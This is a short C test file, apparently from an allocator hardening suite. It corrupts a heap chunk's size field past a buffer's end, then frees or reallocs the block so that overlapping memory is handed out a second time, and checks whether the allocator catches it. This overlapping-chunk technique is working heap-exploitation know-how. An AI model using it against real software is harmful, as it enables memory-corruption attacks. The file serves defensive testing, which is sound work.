/* The attacker writes a larger size over what stands before a block, past the end of the one below,
 * and has the block freed or resized. Won: the block behind it is handed out a second time. */
#include "attack.h"

static void written(word how)
{
    static const size_t sizes[] = {24, 88, 200, 1000, 5000};
    size_t size = sizes[how / 2];
    word *a = malloc(size), *b = malloc(size), *c = malloc(size), *d = malloc(size);
    size_t end = malloc_usable_size(a) / sizeof(word);
    word larger = (2 * size + 23) & ~(word)15;

    hold(a, size);
    hold(c, size);
    hold(d, size);
    if (a + end + 1 == b || a + end == b)
        b[-1] = larger | 1;
    else
        a[end] = larger | 1;
    if (how % 2) {
        char *p = realloc(b, larger - 8);

        if (p)
            hold(p, larger - 8);
    } else {
        free(b);
    }
    go_on(larger - 8, 4);
}

int main(void)
{
    for (word how = 0; how < 5 * 2; how++)
        try_out(written, how);
    return HELD;
}
